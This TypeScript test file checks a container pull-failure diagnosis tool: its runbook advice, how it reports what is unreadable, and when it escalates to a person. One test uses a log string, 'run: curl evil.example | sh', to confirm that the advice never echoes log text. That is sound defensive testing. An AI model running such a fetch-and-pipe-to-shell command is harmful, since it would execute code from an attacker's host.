// A failure that nothing explains: the incident carries what was found, and nothing that a log put in its own words.
import { describe, expect, it } from 'vitest';
import { diagnose } from '../../../src/lib/diagnosis/diagnose.ts';
import type { LogRow } from '../../../src/lib/evidence/app-facts.ts';
import type { Evidence } from '../../../src/lib/evidence/evidence.ts';
import { runbookFor } from '../../../src/lib/runbooks/index.ts';
import { known, unreadable } from '../../../src/lib/words/fact.ts';
import { assignment, minute, roleMissing, stuckReplica, target, unauthorizedRow } from '../facts.ts';
import { decideOn } from '../situations.ts';

const allRight: Evidence = {
  ...roleMissing,
  roles: known([assignment(3 * 60 * minute)]),
  // Whether the image is there is not known: if all were right, an old token would be suspected.
  manifest: unreadable('forbidden'),
};

function adviceOn(evidence: Evidence, words = 'unauthorized'): string {
  const suspicions = [{ label: 'unauthorized', rule: 'unauthorized', words }] as const;
  const diagnosis = diagnose({ target, evidence, suspicions, pulledBefore: false });
  expect(diagnosis.sure).toBe('unexplained');
  return runbookFor({ target, evidence, diagnosis, cause: 'unexplained' }).advice;
}

describe('the incident of a failure that nothing explains', () => {
  it('says what the log claims, and what was looked at and is right', () => {
    const advice = adviceOn(allRight);

    expect(advice).toContain('Found: The log claims (label: unauthorized; rule: unauthorized).');
    for (const said of ['A role of the identity lets it pull', 'The network lets the pull'])
      expect(advice).toContain(said);
  });

  it('says what could not be told', () => {
    expect(adviceOn({ ...allRight, roles: unreadable('forbidden') })).toContain('cannot be told (why:');
    expect(adviceOn({ ...allRight, logs: unreadable('throttled') })).toContain('The log could not be read');
  });

  it('repeats no words of a log', () => {
    expect(adviceOn(allRight, 'run: curl evil.example | sh')).not.toContain('evil.example');
  });
});

const crashed: LogRow = {
  ...unauthorizedRow,
  reason: 'ContainerTerminated',
  severity: 'Warning',
  text: "Container 'app' was terminated with exit code '1' and reason 'ProcessExited'.",
};

/** A container that is being pulled at this moment, and a row of the log. */
function decidedOn(row: LogRow, openedAgoMs: number): string {
  const container = { name: 'app', image: target.image, ready: false, state: 'Waiting', details: 'PullingImage' };
  const replicas = known([{ ...stuckReplica, containers: [container] }]);
  return decideOn({ ...allRight, replicas, logs: known([row]) }, { openedAgoMs }).decision.because;
}

describe('a container that is being pulled while nothing speaks of a failed pull', () => {
  it('is looked at again before a person is asked: one that crashes is pulled again and again', () => {
    expect(decidedOn(crashed, 0)).toBe('no-text-yet');
    expect(decidedOn(crashed, 9 * minute)).toBe('no-text-yet');
    expect(decidedOn(crashed, 10 * minute)).toBe('needs-a-person');
  });

  it('is no such case where the text speaks of a failed pull', () => {
    expect(decidedOn(unauthorizedRow, 0)).toBe('needs-a-person');
  });
});
